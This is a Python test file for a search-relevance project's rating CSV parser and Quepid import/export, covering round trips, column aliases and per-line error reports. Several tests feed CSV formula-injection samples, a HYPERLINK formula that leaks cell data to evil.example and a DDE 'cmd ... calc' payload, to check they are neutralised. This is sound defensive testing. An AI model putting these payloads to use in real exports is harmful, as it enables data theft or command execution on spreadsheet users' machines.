"""Ratings per rater (retrieval/judging/raters.py) as CSV and as Quepid's ratings CSV."""

import pytest

from retrieval.judging.raters import ADJUDICATED, Rating
from retrieval.judging.rating_formats import format_quepid_csv, format_ratings_csv, parse_quepid_csv, parse_ratings_csv
from retrieval.judging.validation import ui_query_id
from retrieval.types import IngestError, RetrievalError

RATED = [
    Rating("q1", "d1", "ann", 2),
    Rating("q1", "d1", "李雷", 0),
    Rating("q1", "doc,2", "ann", None),  # "can't tell"
    Rating("q-2", 'say"hi"', "llm:gpt-4o", 3),
    Rating("q-2", "d1", ADJUDICATED, -1),
]


def test_ratings_csv_round_trip():
    text = format_ratings_csv(RATED)
    assert text.splitlines()[0] == "query,doc,grade,rater"
    assert parse_ratings_csv(text) == RATED
    assert parse_ratings_csv(format_ratings_csv([Rating("q", "d", "", 1)]), default_rater="") == [
        Rating("q", "d", "", 1)]  # the unnamed rater, read back as such when asked


def test_ratings_csv_neutralises_formulas_and_reads_them_back():
    hostile = [Rating("=HYPERLINK(\"http://evil.example/\"&A1)", "@SUM(A1:A9)", "ann", 2),
               Rating("q1", "+33-1", "-rater", 1), Rating("q1", "'=x", "ann", 0)]
    text = format_ratings_csv(hostile)
    cells = [cell for line in text.splitlines()[1:] for cell in line.split(",")]
    assert not any(cell.lstrip('"').startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), text
    assert text.splitlines()[2] == "q1,'+33-1,1,'-rater"
    assert parse_ratings_csv(text) == hostile


def test_ratings_csv_columns_in_any_order_with_aliases_and_a_default_rater():
    text = "\ufeffRating,Doc_ID,note,QUERY_ID\n2,d7,\"a, b\",q1\n?,d8,,q1\n,d9,x,q1\ncan't tell,d6,,q1\n3.0,d5,,q2\n"
    assert parse_ratings_csv(text, default_rater="sam") == [
        Rating("q1", "d7", "sam", 2), Rating("q1", "d8", "sam", None), Rating("q1", "d9", "sam", None),
        Rating("q1", "d6", "sam", None), Rating("q2", "d5", "sam", 2 + 1)]
    assert parse_ratings_csv("query,doc,grade,rater\nq,d,1,\n")[0].rater == "imported"


def test_ratings_csv_problems_are_reported_by_line():
    text = ("query,doc,grade,rater\n"
            "q1,d1,1,ann\n"
            "q1,d1,2,ann\n"  # the same rater, another grade
            "q1,d1,1,ann\n"  # the same again: dropped
            "q 1,d2,high,ann\n"
            "q1,,1,bob\n"
            "q1,d3\n"
            "q1,d4,1,(adjudicated)\n"
            "q1,d5,1,bad,name\n"
            "q1,d6,1,a(b)\n")
    with pytest.raises(IngestError) as caught:
        parse_ratings_csv(text)
    assert caught.value.problems == [
        "line 3: query 'q1', document 'd1', rater 'ann' graded 2 here but 1 on line 2",
        "line 5: grade 'high' is not an integer (nor empty, '?' or \"can't tell\")",
        "line 5: query id 'q 1' must not contain whitespace",
        "line 6: empty query or document id",
        "line 7: expected 4 fields, got 2",
        "line 10: Invalid rater name 'a(b)': use 1–64 letters, digits, spaces and . _ - : @ / +, with no space "
        "at either end",
    ]


def test_ratings_csv_without_usable_header_or_ratings():
    with pytest.raises(IngestError, match="line 1: the header needs the columns query, doc and grade"):
        parse_ratings_csv("qid,docid,score\nq1,d1,1\n")
    with pytest.raises(IngestError, match="empty"):
        parse_ratings_csv("\n")
    with pytest.raises(IngestError, match="no ratings"):
        parse_ratings_csv("query,doc,grade\n")


QUEPID_QUERIES = {"q1": 'star "wars", the saga', "q2": "检索 排序", "q3": "=cmd|' /C calc'!A0", "q4": "trek"}
QUEPID_RATINGS = [Rating("q1", "d9", "quepid", 3), Rating("q1", "d1", "quepid", 0), Rating("q2", "文档-1", "quepid", 2),
                  Rating("q3", "x", "quepid", 1)]


def test_quepid_csv_is_what_quepid_writes():
    text = format_quepid_csv(QUEPID_QUERIES, QUEPID_RATINGS)
    assert text == ('query,docid,rating\n"star ""wars"", the saga",d9,3\n"star ""wars"", the saga",d1,0\n'
                    "检索 排序,文档-1,2\n =cmd|' /C calc'!A0,x,1\ntrek,,")  # no line feed after the last line


def test_quepid_csv_neutralises_formulas_in_every_cell():
    queries = {"q1": "@SUM(1+1)*cmd|' /C calc'!A0", "q2": "+Plus"}
    ratings = [Rating("q1", "=HYPERLINK(\"http://evil.example\")", "quepid", 3), Rating("q2", "-1+2", "quepid", 1)]
    text = format_quepid_csv(queries, ratings)
    assert text == ('query,docid,rating\n'
                    ' @SUM(1+1)*cmd|\' /C calc\'!A0," =HYPERLINK(""http://evil.example"")",3\n'
                    ' +Plus, -1+2,1')  # Quepid's own rule: a space, which its importer strips
    known = {text: query_id for query_id, text in queries.items()}
    assert parse_quepid_csv(text, known) == (queries, ratings)


def test_quepid_csv_round_trip():
    text = format_quepid_csv(QUEPID_QUERIES, QUEPID_RATINGS)
    known = {query_text: query_id for query_id, query_text in QUEPID_QUERIES.items()}
    assert parse_quepid_csv(text, known) == (QUEPID_QUERIES, QUEPID_RATINGS)
    # Texts not known yet get the ids the Search page gives them.
    queries, ratings = parse_quepid_csv(text)
    assert queries == {ui_query_id(t): t for t in QUEPID_QUERIES.values()}
    assert ratings[0] == Rating(ui_query_id(QUEPID_QUERIES["q1"]), "d9", "quepid", 3)
    assert parse_quepid_csv(text, known, rater="ann")[1][0].rater == "ann"


def test_quepid_csv_exports_the_consensus_of_several_raters():
    ratings = [Rating("q1", "d1", "ann", 1), Rating("q1", "d1", "bob", 2), Rating("q1", "d2", "ann", None),
               Rating("q1", "d3", "ann", 0), Rating("q1", "d3", ADJUDICATED, 3)]
    assert format_quepid_csv({"q1": "hybrid"}, ratings) == "query,docid,rating\nhybrid,d1,2\nhybrid,d3,3"
    with pytest.raises(RetrievalError, match="No text for query id 'q9'"):
        format_quepid_csv({"q1": "hybrid"}, [Rating("q9", "d", "ann", 1)])


def test_quepid_csv_as_quepid_exports_it():
    # Quepid's export: float ratings, a query-only line padded with commas or not, a rater column
    # from another tool, CRLF line ends, a doc listed without a rating (a snapshot export).
    text = ("query,docid,rating,rater\r\n star wars,l_1,1.0,\r\nstar wars,l_2,0.0,ann\r\ntrek,,,\r\n"
            "solr,l_3,,\r\nlucene\r\n")
    queries, ratings = parse_quepid_csv(text, {"star wars": "s"})
    assert queries == {"s": "star wars", ui_query_id("trek"): "trek", ui_query_id("solr"): "solr",
                       ui_query_id("lucene"): "lucene"}
    assert ratings == [Rating("s", "l_1", "quepid", 1), Rating("s", "l_2", "ann", 0)]


def test_quepid_csv_problems_are_reported_by_line():
    text = 'query,docid,rating\nstar,d1,1\nstar,d1,2\n,d2,1\nstar,,3\nstar,d 3,1\nstar,d4,0.5\n'
    with pytest.raises(IngestError) as caught:
        parse_quepid_csv(text)
    assert caught.value.problems == [
        "line 3: query 'star', document 'd1', rater 'quepid' graded 2 here but 1 on line 2",
        "line 4: Query text is empty",
        "line 5: rating '3' without a document id",
        "line 6: document id 'd 3' must not contain whitespace",
        "line 7: rating '0.5' is not an integer",
    ]
    with pytest.raises(IngestError, match=r"the header needs the columns query, docid and rating"):
        parse_quepid_csv("query_id,doc_id,grade\nq1,d1,1\n")
